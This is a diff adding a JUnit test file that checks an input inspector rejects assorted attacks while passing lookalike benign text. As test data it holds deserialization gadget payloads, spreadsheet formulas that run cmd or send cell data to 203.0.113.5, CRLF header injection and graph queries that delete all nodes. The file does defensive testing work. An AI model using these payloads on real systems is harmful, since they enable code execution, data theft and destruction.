@@ -1,0 +1,102 @@
+package dev.rampart.domain.inspection;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** Attacks without a class of their own, each kind beside the honest text that resembles it. */
+final class OtherAttacksTest {
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "rO0ABXNyABBqYXZhLnV0aWwuVHJlZU1hcA",
+        "session=rO0ABXNyABBqYXZhLnV0aWwuVHJlZU1hcA",
+        "aced000573720010",
+        "AAEAAAD/////AQAAAAAAAAAMAgAAAA",
+        "gASVJwAAAAAAAACMBXBvc2l4lIwGc3lzdGVt",
+        "BAhvOg1HYWRnZXQ6",
+        "O:6:\"Logger\":1:{s:4:\"path\";s:5:\"x.php\";}",
+        "a:1:{i:0;O:6:\"Logger\":0:{}}",
+        "{\"x\":\"_$$ND_FUNC$$_function(){require('fs')}()\"}",
+        "!!python/object/apply:os.popen [\"uptime\"]",
+        "!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://203.0.113.5/\"]]",
+        "--- !ruby/object:Gem::SpecFetcher\nx: y",
+        "cposix\nsystem\n(S'uptime'\ntR.",
+        "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.5/x\"}",
+      })
+  void a_serialized_object_is_refused(String value) {
+    assertRefusedAsOther(value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "=cmd|'/c notepad'!A1",
+        "-1+cmd|'/c notepad'!A1",
+        "=HYPERLINK(\"http://203.0.113.5/?\"&A1,\"more\")",
+        "+IMPORTXML(\"http://203.0.113.5/\",\"//a\")",
+        "=WEBSERVICE(\"http://203.0.113.5/\"&B2)",
+        "@DDE(\"cmd\";\"/c notepad\";\"\")",
+      })
+  void a_formula_that_reaches_out_is_refused(String value) {
+    assertRefusedAsOther(value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "a%0d%0aSet-Cookie:%20role=root",
+        "a%0d%0aAccess-Control-Allow-Origin:%20*",
+        "a%0aLocation: https://203.0.113.5/",
+        "a\r\nSet-Cookie: role=root",
+        "ann@example.com%0aBcc:%20all@example.com",
+      })
+  void a_header_behind_a_line_end_is_refused(String value) {
+    assertRefusedAsOther(value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "{__schema{types{name}}}",
+        "query{__type(name:\"Order\"){fields{name}}}",
+        "' OR 1=1 RETURN m //",
+        "a'}) MATCH (m) DETACH DELETE m //",
+        "a'}) CALL db.labels() YIELD label RETURN label //",
+        "g.V().drop()",
+      })
+  void a_query_over_a_graph_is_refused(String value) {
+    assertRefusedAsOther(value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "The ratio is 8:1; see O:8 in the plan.",
+        "when: !Sub \"${AWS::StackName}-bucket\"\nbig: !!str 12",
+        "wow!!such/a thing: yes!",
+        "sin\ncos\ntan",
+        "{\"@context\":\"https://schema.org\",\"@type\":\"Person\",\"name\":\"Ann\"}",
+        "=A1+B1",
+        "=SUM(B2:B9)/COUNT(B2:B9)",
+        "- one item\n- another",
+        "+49 30 123456",
+        "-5 % on everything",
+        "@ann please look",
+        "To: Bob\nSubject: lunch\nLocation: canteen",
+        "Which ones match (a) or (b)? Please return both.",
+        "query { order(id: 7) { total } } returns null",
+        "The mutation of the virus was a surprise.",
+      })
+  void what_resembles_it_passes(String value) {
+    assertThat(Inspected.isRefused(value)).isFalse();
+  }
+
+  private static void assertRefusedAsOther(String value) {
+    var verdict = Inspected.prose(value);
+    assertThat(verdict.refusedIn(FieldKind.PROSE)).isTrue();
+    assertThat(verdict.attack()).contains(Attack.OTHER);
+  }
+}
